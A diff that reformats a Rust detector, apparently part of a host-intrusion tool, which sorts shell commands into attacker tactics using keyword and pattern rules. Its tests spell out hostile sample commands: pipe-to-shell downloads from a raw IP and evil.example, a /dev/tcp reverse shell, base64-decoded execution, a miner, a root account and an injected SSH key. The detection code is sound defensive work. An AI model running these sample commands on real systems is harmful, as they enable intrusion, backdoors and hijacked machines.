@@ -46,27 +46,43 @@ pub struct Indicator {
     pub reason: &'static str,
 }
 
-const SHELLS: [&str; 8] = ["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python"];
+const SHELLS: [&str; 8] = [
+    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python",
+];
 const TEMP_DIRS: [&str; 5] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/tmp ."];
 
 fn has_word(text: &str, word: &str) -> bool {
-    text.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '$' | '\'' | '"'))
-        .any(|w| w == word || w.rsplit('/').next() == Some(word))
+    text.split(|c: char| {
+        c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '$' | '\'' | '"')
+    })
+    .any(|w| w == word || w.rsplit('/').next() == Some(word))
 }
 
 fn pipes_to_shell(text: &str) -> bool {
     text.split('|').skip(1).any(|seg| {
         let first = seg.split_whitespace().next().unwrap_or("");
-        let first = if first == "sudo" { seg.split_whitespace().nth(1).unwrap_or("") } else { first };
+        let first = if first == "sudo" {
+            seg.split_whitespace().nth(1).unwrap_or("")
+        } else {
+            first
+        };
         let base = first.rsplit('/').next().unwrap_or("");
-        SHELLS.iter().any(|s| base == *s || base.starts_with("python") || base == "perl")
+        SHELLS
+            .iter()
+            .any(|s| base == *s || base.starts_with("python") || base == "perl")
     })
 }
 
 fn has_raw_ip_url(text: &str) -> bool {
     text.match_indices("://").any(|(i, _)| {
-        let host = text[i + 3..].split(['/', ':', ' ', '"', '\'']).next().unwrap_or("");
-        host.split('.').count() == 4 && host.split('.').all(|o| !o.is_empty() && o.len() <= 3 && o.bytes().all(|b| b.is_ascii_digit()))
+        let host = text[i + 3..]
+            .split(['/', ':', ' ', '"', '\''])
+            .next()
+            .unwrap_or("");
+        host.split('.').count() == 4
+            && host
+                .split('.')
+                .all(|o| !o.is_empty() && o.len() <= 3 && o.bytes().all(|b| b.is_ascii_digit()))
     })
 }
 
@@ -75,58 +91,242 @@ pub fn classify(command: &str) -> Vec<Indicator> {
     let lower = command.to_ascii_lowercase();
     let t = lower.as_str();
     let mut out = Vec::new();
-    let mut add = |tactic, severity, reason| out.push(Indicator { tactic, severity, reason });
-    let downloads = has_word(t, "curl") || has_word(t, "wget") || has_word(t, "fetch") || t.contains("lwp-download") || has_word(t, "tftp");
+    let mut add = |tactic, severity, reason| {
+        out.push(Indicator {
+            tactic,
+            severity,
+            reason,
+        })
+    };
+    let downloads = has_word(t, "curl")
+        || has_word(t, "wget")
+        || has_word(t, "fetch")
+        || t.contains("lwp-download")
+        || has_word(t, "tftp");
     use Severity::*;
     use Tactic::*;
-    if downloads && (pipes_to_shell(t) || t.contains("|sh") || t.contains("| sh") || t.contains("$(curl") || t.contains("$(wget") || t.contains("`curl") || t.contains("`wget")) {
-        add(DownloadExec, Critical, "downloads a script and pipes it straight into a shell");
-    } else if downloads && (t.contains("&& sh ") || t.contains("; sh ") || t.contains("&& bash ") || t.contains("; bash ") || t.contains("&&./") || t.contains("&& ./") || t.contains("; ./")) {
-        add(DownloadExec, Critical, "downloads a file and then executes it");
-    } else if downloads && (has_raw_ip_url(t) || t.contains("pastebin") || t.contains("transfer.sh") || t.contains("raw.githubusercontent")) {
-        add(Download, High, "downloads from a raw IP address or a paste/file-sharing site");
+    if downloads
+        && (pipes_to_shell(t)
+            || t.contains("|sh")
+            || t.contains("| sh")
+            || t.contains("$(curl")
+            || t.contains("$(wget")
+            || t.contains("`curl")
+            || t.contains("`wget"))
+    {
+        add(
+            DownloadExec,
+            Critical,
+            "downloads a script and pipes it straight into a shell",
+        );
+    } else if downloads
+        && (t.contains("&& sh ")
+            || t.contains("; sh ")
+            || t.contains("&& bash ")
+            || t.contains("; bash ")
+            || t.contains("&&./")
+            || t.contains("&& ./")
+            || t.contains("; ./"))
+    {
+        add(
+            DownloadExec,
+            Critical,
+            "downloads a file and then executes it",
+        );
+    } else if downloads
+        && (has_raw_ip_url(t)
+            || t.contains("pastebin")
+            || t.contains("transfer.sh")
+            || t.contains("raw.githubusercontent"))
+    {
+        add(
+            Download,
+            High,
+            "downloads from a raw IP address or a paste/file-sharing site",
+        );
     }
     if t.contains("/dev/tcp/") || t.contains("/dev/udp/") {
-        add(ReverseShell, Critical, "opens a network connection through bash's /dev/tcp (reverse shell)");
+        add(
+            ReverseShell,
+            Critical,
+            "opens a network connection through bash's /dev/tcp (reverse shell)",
+        );
     }
-    if (has_word(t, "nc") || has_word(t, "ncat") || has_word(t, "netcat") || has_word(t, "busybox")) && (t.contains(" -e ") || t.contains(" -c ") || t.contains("mkfifo") || t.contains("mknod")) {
-        add(ReverseShell, Critical, "netcat with command execution (reverse or bind shell)");
+    if (has_word(t, "nc") || has_word(t, "ncat") || has_word(t, "netcat") || has_word(t, "busybox"))
+        && (t.contains(" -e ") || t.contains(" -c ") || t.contains("mkfifo") || t.contains("mknod"))
+    {
+        add(
+            ReverseShell,
+            Critical,
+            "netcat with command execution (reverse or bind shell)",
+        );
     }
     if has_word(t, "socat") && (t.contains("exec:") || t.contains("system:")) {
-        add(ReverseShell, Critical, "socat connecting a shell to the network");
+        add(
+            ReverseShell,
+            Critical,
+            "socat connecting a shell to the network",
+        );
     }
-    if (t.contains("python") || t.contains("perl") || t.contains("ruby") || t.contains("php")) && t.contains("socket") && (t.contains("subprocess") || t.contains("exec") || t.contains("pty") || t.contains("dup2") || t.contains("system")) {
-        add(ReverseShell, Critical, "scripting-language one-liner that ties a shell to a socket");
+    if (t.contains("python") || t.contains("perl") || t.contains("ruby") || t.contains("php"))
+        && t.contains("socket")
+        && (t.contains("subprocess")
+            || t.contains("exec")
+            || t.contains("pty")
+            || t.contains("dup2")
+            || t.contains("system"))
+    {
+        add(
+            ReverseShell,
+            Critical,
+            "scripting-language one-liner that ties a shell to a socket",
+        );
     }
-    if (t.contains("base64 -d") || t.contains("base64 --decode") || t.contains("base64 -di") || t.contains("openssl enc -d") || t.contains("xxd -r")) && (pipes_to_shell(t) || t.contains("eval")) {
-        add(EncodedExec, Critical, "decodes an encoded payload and runs it");
+    if (t.contains("base64 -d")
+        || t.contains("base64 --decode")
+        || t.contains("base64 -di")
+        || t.contains("openssl enc -d")
+        || t.contains("xxd -r"))
+        && (pipes_to_shell(t) || t.contains("eval"))
+    {
+        add(
+            EncodedExec,
+            Critical,
+            "decodes an encoded payload and runs it",
+        );
     }
-    if t.contains("stratum+tcp") || t.contains("stratum+ssl") || t.contains("stratum2+") || has_word(t, "xmrig") || t.contains("--donate-level") || t.contains("kdevtmpfsi") || t.contains("kinsing") || t.contains("minerd") || t.contains("cpuminer") || t.contains("nanopool.org") || t.contains("supportxmr") || t.contains("moneroocean") || t.contains("c3pool") || t.contains("hashvault.pro") || t.contains("f2pool") {
+    if t.contains("stratum+tcp")
+        || t.contains("stratum+ssl")
+        || t.contains("stratum2+")
+        || has_word(t, "xmrig")
+        || t.contains("--donate-level")
+        || t.contains("kdevtmpfsi")
+        || t.contains("kinsing")
+        || t.contains("minerd")
+        || t.contains("cpuminer")
+        || t.contains("nanopool.org")
+        || t.contains("supportxmr")
+        || t.contains("moneroocean")
+        || t.contains("c3pool")
+        || t.contains("hashvault.pro")
+        || t.contains("f2pool")
+    {
         add(Miner, Critical, "cryptominer name, pool or options");
     }
     if TEMP_DIRS.iter().any(|d| t.contains(d)) {
-        let exec = t.contains("chmod +x") || t.contains("chmod 777") || t.contains("chmod 755") || t.contains("chmod u+x") || t.contains("nohup") || t.split_whitespace().any(|w| TEMP_DIRS.iter().any(|d| w.starts_with(d.trim_end_matches(' '))) && !w.ends_with('/')) && (t.trim_start().starts_with("/tmp") || t.trim_start().starts_with("/var/tmp") || t.trim_start().starts_with("/dev/shm") || t.contains("exec") || t.contains("nohup") || t.contains("&& /") || t.contains("; /"));
+        let exec = t.contains("chmod +x")
+            || t.contains("chmod 777")
+            || t.contains("chmod 755")
+            || t.contains("chmod u+x")
+            || t.contains("nohup")
+            || t.split_whitespace().any(|w| {
+                TEMP_DIRS
+                    .iter()
+                    .any(|d| w.starts_with(d.trim_end_matches(' ')))
+                    && !w.ends_with('/')
+            }) && (t.trim_start().starts_with("/tmp")
+                || t.trim_start().starts_with("/var/tmp")
+                || t.trim_start().starts_with("/dev/shm")
+                || t.contains("exec")
+                || t.contains("nohup")
+                || t.contains("&& /")
+                || t.contains("; /"));
         if exec {
-            add(TempExec, High, "makes executable or runs a program from a world-writable temp dir");
+            add(
+                TempExec,
+                High,
+                "makes executable or runs a program from a world-writable temp dir",
+            );
         }
     }
-    if t.contains("authorized_keys") && (t.contains(">>") || t.contains("> ") || t.contains("tee") || t.contains("echo") || t.contains("cp ") || t.contains("cat ")) {
+    if t.contains("authorized_keys")
+        && (t.contains(">>")
+            || t.contains("> ")
+            || t.contains("tee")
+            || t.contains("echo")
+            || t.contains("cp ")
+            || t.contains("cat "))
+    {
         add(SshKey, High, "writes an SSH key into authorized_keys");
     }
-    if has_word(t, "useradd") || has_word(t, "adduser") || (has_word(t, "usermod") && (t.contains("-u 0") || t.contains(" -o") || t.contains("sudo") || t.contains("wheel"))) || t.contains("chpasswd") || (has_word(t, "passwd") && !t.trim_start().starts_with("passwd\n")) && (t.contains("--stdin") || t.contains("echo")) || t.contains("/etc/passwd") && t.contains(">>") {
+    if has_word(t, "useradd")
+        || has_word(t, "adduser")
+        || (has_word(t, "usermod")
+            && (t.contains("-u 0")
+                || t.contains(" -o")
+                || t.contains("sudo")
+                || t.contains("wheel")))
+        || t.contains("chpasswd")
+        || (has_word(t, "passwd") && !t.trim_start().starts_with("passwd\n"))
+            && (t.contains("--stdin") || t.contains("echo"))
+        || t.contains("/etc/passwd") && t.contains(">>")
+    {
         add(Account, High, "creates an account or sets a password");
     }
-    if (has_word(t, "crontab") && !t.contains("crontab -l")) || (t.contains("/etc/cron") && (t.contains(">") || t.contains("cp ") || t.contains("echo"))) || (t.contains("systemctl enable") || t.contains(".service") && t.contains(">")) || (t.contains("/etc/rc.local") && t.contains(">")) || t.contains("/etc/ld.so.preload") {
-        add(Persistence, High, "installs persistence (cron, systemd, rc.local or ld.so.preload)");
+    if (has_word(t, "crontab") && !t.contains("crontab -l"))
+        || (t.contains("/etc/cron") && (t.contains(">") || t.contains("cp ") || t.contains("echo")))
+        || (t.contains("systemctl enable") || t.contains(".service") && t.contains(">"))
+        || (t.contains("/etc/rc.local") && t.contains(">"))
+        || t.contains("/etc/ld.so.preload")
+    {
+        add(
+            Persistence,
+            High,
+            "installs persistence (cron, systemd, rc.local or ld.so.preload)",
+        );
     }
-    if t.contains("history -c") || t.contains("unset histfile") || t.contains("histsize=0") || t.contains("histfilesize=0") || t.contains("histfile=/dev/null") || t.contains("set +o history") || (has_word(t, "shred") && (t.contains("log") || t.contains("history"))) || (t.contains("rm ") && (t.contains("/var/log") || t.contains("_history") || t.contains("wtmp") || t.contains("lastlog"))) || t.contains("> /var/log/") || t.contains(">/var/log/") || t.contains("ln -sf /dev/null") && t.contains("history") || t.contains("journalctl --vacuum") {
-        add(AntiForensics, High, "erases or disables shell history or logs");
+    if t.contains("history -c")
+        || t.contains("unset histfile")
+        || t.contains("histsize=0")
+        || t.contains("histfilesize=0")
+        || t.contains("histfile=/dev/null")
+        || t.contains("set +o history")
+        || (has_word(t, "shred") && (t.contains("log") || t.contains("history")))
+        || (t.contains("rm ")
+            && (t.contains("/var/log")
+                || t.contains("_history")
+                || t.contains("wtmp")
+                || t.contains("lastlog")))
+        || t.contains("> /var/log/")
+        || t.contains(">/var/log/")
+        || t.contains("ln -sf /dev/null") && t.contains("history")
+        || t.contains("journalctl --vacuum")
+    {
+        add(
+            AntiForensics,
+            High,
+            "erases or disables shell history or logs",
+        );
     }
-    if has_word(t, "mysqldump") || has_word(t, "pg_dump") || has_word(t, "pg_dumpall") || t.contains("into outfile") || has_word(t, "mongodump") || ((has_word(t, "tar") || has_word(t, "zip") || has_word(t, "7z") || has_word(t, "rar")) && (t.contains("/var/www") || t.contains("/srv/www") || t.contains("/home/wwwroot"))) {
-        add(DataDump, Medium, "dumps a database or archives a web root (data theft, \"dragging\")");
+    if has_word(t, "mysqldump")
+        || has_word(t, "pg_dump")
+        || has_word(t, "pg_dumpall")
+        || t.contains("into outfile")
+        || has_word(t, "mongodump")
+        || ((has_word(t, "tar") || has_word(t, "zip") || has_word(t, "7z") || has_word(t, "rar"))
+            && (t.contains("/var/www") || t.contains("/srv/www") || t.contains("/home/wwwroot")))
+    {
+        add(
+            DataDump,
+            Medium,
+            "dumps a database or archives a web root (data theft, \"dragging\")",
+        );
     }
-    if t.contains("iptables -f") || t.contains("ufw disable") || t.contains("setenforce 0") || t.contains("systemctl stop firewalld") || t.contains("aliyun") && (t.contains("uninstall") || t.contains("stop")) || t.contains("aegis") && (t.contains("kill") || t.contains("stop") || t.contains("rm ")) || t.contains("chattr -i") || t.contains("chattr +i") || t.contains("echo 0 > /proc/sys/kernel/nmi_watchdog") {
-        add(DefenseEvasion, Medium, "weakens defences (firewall, SELinux, security agent, immutable bits)");
+    if t.contains("iptables -f")
+        || t.contains("ufw disable")
+        || t.contains("setenforce 0")
+        || t.contains("systemctl stop firewalld")
+        || t.contains("aliyun") && (t.contains("uninstall") || t.contains("stop"))
+        || t.contains("aegis") && (t.contains("kill") || t.contains("stop") || t.contains("rm "))
+        || t.contains("chattr -i")
+        || t.contains("chattr +i")
+        || t.contains("echo 0 > /proc/sys/kernel/nmi_watchdog")
+    {
+        add(
+            DefenseEvasion,
+            Medium,
+            "weakens defences (firewall, SELinux, security agent, immutable bits)",
+        );
     }
     if (has_word(t, "scp") || has_word(t, "rsync")) && t.contains('@') && t.contains(':') {
         add(Exfiltration, Low, "copies files to or from another host");
@@ -144,8 +344,18 @@ pub fn worst(command: &str) -> Option<Indicator> {
 /// legitimate service keeps its programs.
 pub fn is_suspicious_location(path: &str) -> bool {
     let p = path.trim_end_matches(" (deleted)");
-    ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/dev/", "/run/user/"].iter().any(|d| p.starts_with(d) && !p.starts_with("/dev/null"))
-        || p.split('/').any(|c| c.starts_with('.') && c.len() > 1 && c != "..")
+    [
+        "/tmp/",
+        "/var/tmp/",
+        "/dev/shm/",
+        "/run/shm/",
+        "/dev/",
+        "/run/user/",
+    ]
+    .iter()
+    .any(|d| p.starts_with(d) && !p.starts_with("/dev/null"))
+        || p.split('/')
+            .any(|c| c.starts_with('.') && c.len() > 1 && c != "..")
 }
 
 #[cfg(test)]
@@ -158,14 +368,26 @@ mod tests {
 
     #[test]
     fn recognises_common_tradecraft() {
-        assert!(tactics("*/5 * * * * curl -fsSL http://1.2.3.4/x.sh | sh").contains(&Tactic::DownloadExec));
-        assert!(tactics("wget -q http://evil.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a").contains(&Tactic::TempExec));
-        assert!(tactics("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").contains(&Tactic::ReverseShell));
+        assert!(
+            tactics("*/5 * * * * curl -fsSL http://1.2.3.4/x.sh | sh")
+                .contains(&Tactic::DownloadExec)
+        );
+        assert!(
+            tactics("wget -q http://evil.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a")
+                .contains(&Tactic::TempExec)
+        );
+        assert!(
+            tactics("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").contains(&Tactic::ReverseShell)
+        );
         assert!(tactics("echo ZWNobyBoaQ== | base64 -d | bash").contains(&Tactic::EncodedExec));
         assert!(tactics("./xmrig -o stratum+tcp://pool:3333 -u wallet").contains(&Tactic::Miner));
         assert!(tactics("unset HISTFILE").contains(&Tactic::AntiForensics));
-        assert!(tactics("mysqldump -uroot -p shop > /var/www/html/s.sql").contains(&Tactic::DataDump));
-        assert!(tactics("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys").contains(&Tactic::SshKey));
+        assert!(
+            tactics("mysqldump -uroot -p shop > /var/www/html/s.sql").contains(&Tactic::DataDump)
+        );
+        assert!(
+            tactics("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys").contains(&Tactic::SshKey)
+        );
         assert!(tactics("useradd -o -u 0 -g 0 toor").contains(&Tactic::Account));
     }
 
